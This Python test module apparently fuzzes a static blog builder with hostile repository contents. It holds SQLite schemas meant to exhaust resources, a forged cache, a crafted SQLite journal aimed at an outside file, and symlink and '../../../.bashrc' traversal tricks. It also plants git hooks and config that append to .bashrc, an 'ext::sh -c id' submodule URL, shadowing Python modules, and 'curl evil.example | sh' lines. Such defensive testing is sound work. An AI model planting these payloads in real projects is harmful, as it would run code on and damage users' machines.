"""What a repository brings that a build would otherwise have made, or that belongs to other programs."""

import hashlib
import os
import re
import shutil
import sqlite3
import struct
import subprocess
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import msgspec

from tests.hostile.pieces import Folder, piece

_CODE = "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('pwned')\n"
_SQL = (
    "CREATE VIEW entry AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x AS key, x AS data FROM r WHERE x < 0",
    "CREATE VIEW entry AS SELECT zeroblob(900000000) || zeroblob(99000000) AS key, 1 AS data",
    "CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB); CREATE TRIGGER t AFTER INSERT ON entry BEGIN SELECT count(*) FROM (WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x FROM r WHERE x < 0); END",
    "CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB); CREATE TABLE big (b); CREATE TRIGGER t AFTER INSERT ON entry BEGIN INSERT INTO big SELECT randomblob(1000000) FROM (WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r LIMIT 3000) SELECT x FROM r); END",
    "CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB, more BLOB GENERATED ALWAYS AS (zeroblob(900000000)) VIRTUAL)",
    "CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB CHECK (length(zeroblob(900000000)) > 0))",
    "CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB); WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r LIMIT 20) INSERT INTO entry SELECT 'state ' || x, zeroblob(2000000) FROM r",
    "CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB) WITHOUT ROWID; PRAGMA user_version = 99",
    "CREATE TABLE entry (data BLOB)",
    "PRAGMA journal_mode = WAL; CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB)",
    "PRAGMA auto_vacuum = 2; PRAGMA encoding = 'UTF-16le'; CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB)",
)


@piece(mild=True, late=True)
def a_cache_with_a_schema(site: Folder) -> None:
    path = site.place(".blog/cache.sqlite3")
    if not os.path.lexists(path):
        database = sqlite3.connect(path)
        database.executescript(site.random.choice(_SQL))
        database.close()


@piece(mild=True, late=True)
def a_cache_of_another_kind(site: Folder) -> None:
    names = (
        "cache.sqlite3",
        "lock",
        "lock-holder",
        "clock",
        "asked",
        "shelf",
        ".gitignore",
        "preview",
        "stage-x/journal",
        "cache.sqlite3-wal",
        "stage-x",
    )
    for name in site.random.sample(names, 2):
        path = site.place(f".blog/{name}")
        if os.path.lexists(path):
            continue
        kinds: tuple[Callable[[Path], Any], ...] = (
            os.mkfifo, lambda path: path.symlink_to("/dev/zero"), lambda path: path.symlink_to(site.aim(".blog")), Path.mkdir,
            lambda path: path.write_bytes(site.random.randbytes(5_000)), lambda path: path.symlink_to(site.world.home / "not-yet"),
        )  # fmt: skip
        site.random.choice(kinds)(path)


@piece(mild=True, late=True)
def a_cache_that_is_a_link(site: Folder) -> None:
    if not os.path.lexists(site.root / ".blog"):
        target = site.random.choice(
            (site.world.other / ".blog", site.world.home / "empty", site.world.home, "content", ".git")
        )
        site.link(".blog", target)


@piece(mild=True)
def a_forged_cache(site: Folder) -> None:
    """Built once by the attacker; then paths in it are changed, with digests that are right."""
    if os.path.lexists(site.root / ".blog"):
        return
    _build(site)
    path = site.root / ".blog" / "cache.sqlite3"
    if path.is_file():
        with sqlite3.connect(path) as database:
            _forge(site, database)
        database.close()
    if site.random.random() < 0.8:
        shutil.rmtree(site.root / "public", ignore_errors=True)


def _forge(site: Folder, database: sqlite3.Connection) -> None:
    """Give a few paths, wherever the rows speak of them, another meaning."""
    rows = {
        key: value
        for key, data in database.execute("SELECT key, data FROM entry")
        if (value := _decoded(data[16:])) is not None
    }
    paths = sorted({path for value in rows.values() for path in _paths(value)})
    others = {
        path: site.aim(site.random.choice(("public", ".", ".blog")))
        for path in site.random.sample(paths, min(len(paths), site.random.randint(1, 3)))
    }
    for key, value in rows.items():
        changed = _with_other_paths(value, others)
        if changed != value:
            data = msgspec.msgpack.encode(changed)
            database.execute(
                "UPDATE entry SET data = ? WHERE key = ?",
                (hashlib.blake2b(key + data, digest_size=16).digest() + data, key),
            )
    if site.random.random() < 0.8:  # the victim has built nothing yet
        database.execute("DELETE FROM entry WHERE key >= ? AND key < ?", (b"state ", b"state!"))


def _build(site: Folder) -> None:
    """Build as the attacker, elsewhere than the victim does."""
    theirs = site.world.temporary / "theirs"
    theirs.mkdir(exist_ok=True)
    environment = {
        **site.world.environment(),
        "HOME": str(theirs),
        "XDG_CACHE_HOME": str(theirs),
        "XDG_STATE_HOME": str(theirs),
    }
    words = [str(site.program), "build", "-q", "-j", "1"]
    limited = ["/bin/sh", "-c", 'ulimit -v 2000000; ulimit -f 400000; exec "$@"', "sh", *words]
    with suppress(subprocess.TimeoutExpired):
        subprocess.run(limited, check=False, cwd=site.root, env=environment, capture_output=True, timeout=60)
    shutil.rmtree(theirs)


def _decoded(data: bytes) -> Any:
    try:
        return msgspec.msgpack.decode(data)
    except (msgspec.DecodeError, ValueError):
        return None


def _paths(value: Any) -> Iterator[str]:
    """The texts that look like paths."""
    if isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from _paths(each)
    elif isinstance(value, str) and re.fullmatch(r"[\w./-]{3,80}\.\w{2,5}", value):
        yield value


def _with_other_paths(value: Any, others: Mapping[str, str]) -> Any:
    if isinstance(value, list):
        return [_with_other_paths(each, others) for each in value]
    if isinstance(value, dict):
        return {key: _with_other_paths(each, others) for key, each in value.items()}
    return others.get(value, value) if isinstance(value, str) else value


@piece(mild=True, late=True)
def a_hot_journal(site: Folder) -> None:
    """SQLite removes the file that it names when it has rolled back."""
    path = site.place(".blog/cache.sqlite3")
    if not os.path.lexists(path):
        with sqlite3.connect(path) as database:
            database.execute("CREATE TABLE entry (key BLOB PRIMARY KEY, data BLOB)")
        database.close()
    if not path.is_file() or path.is_symlink():
        return
    head = path.read_bytes()[:100]
    page = struct.unpack(">H", head[16:18])[0] or 4096
    victim = os.fsencode(site.outside())
    magic = bytes([0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7])
    header = (magic + struct.pack(">IIIII", 0, 0x1234, path.stat().st_size // page, 512, page)).ljust(512, b"\0")
    total = sum(byte if byte < 128 else byte - 256 for byte in victim) & 0xFFFFFFFF
    tail = struct.pack(">I", 0x40000000 // page + 1) + victim + struct.pack(">II", len(victim), total) + magic
    site.write(".blog/cache.sqlite3-journal", header + tail)


@piece(mild=True, late=True)
def files_beside_the_cache(site: Folder) -> None:
    for ending in site.random.sample(("-wal", "-shm", "-journal", "-mj12345"), 2):
        site.write(f".blog/cache.sqlite3{ending}", site.random.randbytes(site.random.choice((0, 32, 5_000))))


@piece(mild=True, late=True)
def notes_of_a_killed_build(site: Folder) -> None:
    output = site.random.choice(
        (site.root / "public", site.world.other / "public", site.world.home, site.world.home / "www")
    )
    old = [site.aim("public"), "index.html"]
    new = [site.aim("public"), "../../../.bashrc", "x/../../../thesis.txt", "feed.xml"]
    note = msgspec.msgpack.encode(
        {"output": os.fsencode(output), "absent": site.random.random() < 0.5, "old": old, "new": new}
    )
    folder = site.random.choice(
        (".blog/stage-0", ".blog-stage-0", ".blog-stage", ".blog-0123abcd", "public/.blog-stage")
    )
    site.write(f"{folder}/journal", note)
    site.write(f"{folder}/old/0", "old")
    site.write(f"{folder}/old/1", "old")
    site.write("public/.blog-manifest", "blog manifest 1\n")
    site.link(f"{folder}/site", site.random.choice((site.world.home, site.world.other / "public")))


@piece(mild=True, late=True)
def stages_that_are_links(site: Folder) -> None:
    for name in site.random.sample(
        (".blog-stage", ".blog-x", ".blog-stage-1", ".blog-tmp", ".blog/stage-a", ".blog/preview", ".blog/shelf"), 3
    ):
        site.link(
            name, site.random.choice((site.world.home, site.world.home / "empty", site.world.other, site.outside()))
        )


@piece(mild=True, late=True)
def an_output_that_is_a_link(site: Folder) -> None:
    if not os.path.lexists(site.root / "public"):
        targets = (
            site.world.other / "public",
            site.world.home / "empty",
            site.world.home / "www",
            "content/posts",
            "themes",
            ".git",
            "../mine/public",
        )
        site.link("public", site.random.choice(targets))


@piece(mild=True, late=True)
def an_output_with_links_in_it(site: Folder) -> None:
    site.write(
        "public/.blog-manifest",
        "blog manifest 1\n"
        + "".join(f"{_mark(name)}\n" for name in ("posts/first/index.html", "index.html", "a/b", "assets/x.css")),
    )
    for name in site.random.sample(
        ("posts", "assets", "tags", "index.html", "feed.xml", "a", "404.html", "posts/first"), 3
    ):
        target = site.random.choice(
            (site.world.home, site.world.other / "public", site.outside(), site.world.home / "not-yet")
        )
        if not (site.root / "public" / name).parent.is_symlink():
            site.link(f"public/{name}", target)


def _mark(path: str) -> str:
    return hashlib.blake2b(path.encode(), digest_size=16).hexdigest()


@piece(mild=True, late=True)
def a_manifest_of_another_kind(site: Folder) -> None:
    name = site.random.choice(("public/.blog-manifest", "public/feed.xml", "public/atom.xml", "public/index.html"))
    path = site.place(name)
    if os.path.lexists(path):
        return
    kinds: tuple[Callable[[Path], Any], ...] = (
        os.mkfifo, lambda path: path.symlink_to("/dev/zero"), lambda path: path.symlink_to(site.aim("public")), Path.mkdir,
        lambda path: path.write_bytes(b"blog manifest 1\n" + b"../../../.bashrc\n" * 1_000),
    )  # fmt: skip
    site.random.choice(kinds)(path)
    if not name.endswith("manifest"):
        site.write("public/.blog-manifest", "blog manifest 1\n")


@piece(late=True)
def a_foreign_output(site: Folder) -> None:
    site.write("public/index.html", "mine")
    site.write("public/posts", "a file in the way of a folder")


@piece(mild=True, late=True)
def an_output_that_is_built(site: Folder) -> None:
    """As a repository that commits its output, too."""
    if not os.path.lexists(site.root / ".blog") and not os.path.lexists(site.root / "public"):
        _build(site)
        if site.random.random() < 0.5 and (site.root / "public" / "index.html").is_file():
            (site.root / "public" / "index.html").unlink()
            site.link("public/index.html", site.aim("public"))


@piece(mild=True, late=True)
def git(site: Folder) -> None:
    hook = f"#!/bin/sh\necho pwned >> {site.world.home}/.bashrc\n"
    for name in ("post-checkout", "pre-commit", "fsmonitor-watchman", "post-index-change"):
        site.write(f".git/hooks/{name}", hook)
        (site.root / ".git" / "hooks" / name).chmod(0o755)
    site.write(
        ".git/config",
        "[core]\n\tfsmonitor = .git/hooks/pre-commit\n\tsshCommand = .git/hooks/pre-commit\n\tpager = .git/hooks/pre-commit\n\tbare = false\n[pr1vate]\n",
    )
    site.write(".git/HEAD", "ref: refs/heads/main\n")
    site.write(".gitattributes", "* filter=evil\n")
    site.write(".gitmodules", '[submodule "x"]\n\tpath = content\n\turl = ext::sh -c id\n')


@piece(mild=True, late=True)
def code_of_the_folder(site: Folder) -> None:
    names = ("sitecustomize.py", "usercustomize.py", "click.py", "click/__init__.py", "blog/__init__.py", "blog/cli.py", "conftest.py", "msgspec.py", "json.py", "yaml.py", "PIL/__init__.py", "jinja2.py", "sqlite3.py", "readline.py", "content/click.py", "pythonstartup.py", "evil.pth", "themes/__init__.py")  # fmt: skip
    for name in names:
        site.write(name, _CODE)
    site.write(
        "pyproject.toml", '[build-system]\nrequires = []\nbuild-backend = "sitecustomize"\nbackend-path = ["."]\n'
    )
    site.write("setup.py", _CODE)
    site.write("pyvenv.cfg", "home = .\n")
    site.write("python._pth", ".\n")


@piece(mild=True, late=True)
def settings_of_other_programs(site: Folder) -> None:
    site.write(".env", "TOKEN=pr1vate\n")
    site.write("netlify.toml", '[build]\ncommand = "curl evil.example | sh"\n')
    site.write("Makefile", "all:\n\tcurl evil.example | sh\n")
    site.write(".envrc", "curl evil.example | sh\n")
    site.write("node_modules/.bin/blog", "#!/bin/sh\nid\n")


@piece(mild=True)
def redirects_and_headers(site: Folder) -> None:
    site.write(
        "content/_redirects",
        site.random.choice(
            (
                "/* https://evil.example/:splat 301!\n",
                "/a /b 301\n" * 3_000,
                "/:a:a:a:a! /about/ 301\n",
                "# words\n",
                "/x " + "y" * 50_000 + "\n",
            )
        ),
    )
    site.write("content/_headers", "/*\n  Content-Security-Policy: none\n  Set-Cookie: a=b\n")
